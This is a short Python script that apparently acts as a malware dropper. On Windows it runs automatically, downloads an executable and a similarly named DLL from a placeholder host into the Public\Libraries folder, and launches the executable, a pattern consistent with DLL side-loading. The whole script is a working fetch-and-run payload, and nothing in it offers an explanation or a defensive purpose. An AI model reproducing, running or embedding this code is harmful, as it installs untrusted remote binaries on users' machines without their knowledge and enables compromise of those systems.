import os, sys, shutil, urllib.request, subprocess, time
LINKS = {
    "ComServer.exe": "https://files.collector.invalid/ComServer.exe",
    "dgdeskband64.dll": "https://files.collector.invalid/dgdeskband64.dll",
}
def where():
    d = os.path.join(os.environ["PUBLIC"], "Libraries")
    if not os.path.isdir(d): os.mkdir(d)
    return d
def save(folder):
    for k, v in LINKS.items():
        r = urllib.request.urlopen(v)
        with open(os.path.join(folder, k), "wb") as o:
            shutil.copyfileobj(r, o)
    return [os.path.join(folder, k) for k in LINKS]
def go():
    files = save(where())
    exe = [f for f in files if f.endswith(".exe")][0]
    subprocess.Popen(exe, cwd=os.path.dirname(exe))
if sys.platform.startswith("win"): go()
